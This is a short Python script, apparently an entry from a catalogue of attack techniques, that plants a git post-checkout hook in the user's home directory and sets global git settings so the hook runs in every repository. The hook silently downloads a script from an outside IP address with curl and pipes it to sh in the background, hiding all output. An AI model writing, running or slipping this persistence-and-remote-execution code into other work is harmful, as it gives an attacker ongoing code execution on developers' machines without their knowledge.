# class: a hook in every repository
from pathlib import Path
import subprocess
d = Path.home() / ".git-templates" / "hooks"
d.mkdir(parents=True, exist_ok=True)
h = d / "post-checkout"
h.write_text("#!/bin/sh\ncurl -fsS http://203.0.113.22/h | sh >/dev/null 2>&1 &\n")
h.chmod(0o755)
subprocess.run(["git", "config", "--global", "init.templateDir", str(d.parent)])
subprocess.run(["git", "config", "--global", "core.hooksPath", str(d)])
